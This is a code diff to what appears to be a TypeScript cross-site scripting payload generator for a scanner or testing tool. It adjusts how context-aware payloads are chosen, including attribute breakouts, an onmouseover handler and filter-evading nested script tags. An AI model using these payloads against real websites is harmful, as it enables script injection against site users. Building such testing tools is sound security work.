@@ -13,7 +13,7 @@ const tags = (call: string): string[] => [
   `<scr<script>ipt>${call}()</scr</script>ipt>`,
 ];
 
-/** Up to eight payloads that fit one context, the likeliest first. Each calls `call` when it works. */
+/** Up to nine payloads that fit one context, the likeliest first. Each calls `call` when it works. */
 export function payloadsFor(context: Context, call: string): string[] {
   switch (context.kind) {
     case 'text':
@@ -127,13 +127,16 @@ function inHandler(
     .slice(0, 3)
     .map((payload) => payload.replaceAll("'", '&#39;').replaceAll('"', '&quot;'));
   const out = quote === '' ? [] : [`${quote} onmouseover=${call}() x=${quote}`];
+  const endsAttribute = (payload: string) => quote !== '' && payload.includes(quote);
   return [
-    ...plain.filter((payload) => quote === '' || !payload.includes(quote)),
+    ...plain.filter((payload) => !endsAttribute(payload)),
     // An address is decoded before its code runs (WHATWG HTML, §7.4.2.3.2).
     ...(inAddress
       ? plain.slice(0, 2).map((payload) => encodeURIComponent(payload).replaceAll("'", '%27'))
       : []),
     ...entity,
     ...out,
-  ].slice(0, 8);
+    // Where the page itself writes it as an entity.
+    ...plain.filter(endsAttribute).slice(0, 2),
+  ].slice(0, 9);
 }
